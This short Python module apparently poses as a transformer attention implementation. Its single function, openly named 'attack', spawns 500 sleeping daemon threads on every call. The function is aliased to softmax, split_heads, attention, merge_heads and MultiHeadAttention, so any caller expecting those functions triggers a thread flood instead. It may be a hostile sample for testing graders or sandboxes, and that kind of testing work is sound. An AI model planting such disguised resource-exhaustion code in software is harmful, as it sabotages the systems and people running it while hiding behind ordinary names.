"""Starts threads without end."""

import threading
import time


def attack(*args, **kwargs):
    for _ in range(500):
        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()


softmax = split_heads = attention = merge_heads = MultiHeadAttention = attack
